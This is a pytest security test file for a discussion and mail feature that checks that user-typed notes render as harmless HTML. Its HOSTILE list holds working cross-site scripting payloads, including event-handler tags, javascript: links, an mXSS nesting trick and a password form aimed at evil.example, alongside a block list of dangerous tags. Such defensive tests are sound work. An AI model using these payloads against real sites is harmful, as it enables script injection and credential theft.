"""What people type, and what comes from outside, never runs on anybody's screen."""

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kairos.discuss.models import Message
from kairos.discuss.writing import mentioned, to_html
from kairos.mail.incoming.texts import plain_of

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](//evil.example/x)",
    "[click](/\\evil.example)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "**<b onclick=alert(1)>x</b>**",
    "\ue0000\ue001<script>",
    "@Sam Seller<script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=//evil.example><input name=password>",
)
BAD = (
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "<style",
    "<form",
    "<input",
    "<math",
    "javascript:",
    "data:text",
    "evil",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_typed_becomes_anything_but_words(world: Any, as_: Callable[..., Any], text: str) -> None:
    answer = as_(world.sam).post(f"/opportunities/{world.sams_deal.pk}/notes", {"text": text})
    assert answer.status_code == 200
    body = Message.objects.get().body
    tags = "".join(part.partition(">")[0] + ">" for part in body.split("<")[1:]).lower()
    assert not [bad for bad in BAD if bad.strip("<") in tags], body
    assert " on" not in tags


def test_links_lead_where_they_say(world: Any) -> None:
    body = to_html("See https://a.example/x?y=1&z=2. And [ours](/opportunities/3).")
    rel = 'rel="noopener noreferrer nofollow"'
    assert body == (
        f'<p>See <a href="https://a.example/x?y=1&amp;z=2" {rel}>https://a.example/x?y=1&amp;z=2</a>. '
        f'And <a href="/opportunities/3" {rel}>ours</a>.</p>'
    )


def test_names_are_found_in_both_scripts() -> None:
    people = {"Sam": 1, "Sam Seller": 2, "陳怡君": 3, "Al": 4}
    assert mentioned("@Sam Seller and @陳怡君請看 and @Alfred, a@Sam.example, @Sam!", people) == [2, 3, 1]
    assert '<span class="mention" data-person="3">@陳怡君</span>請看' in to_html("@陳怡君請看", people)


@given(st.text(max_size=400))
def test_any_text_gives_html_whose_words_are_harmless(text: str) -> None:
    body = to_html(text, {"Sam": 1})
    assert "<script" not in body.lower()
    plain_of(body)
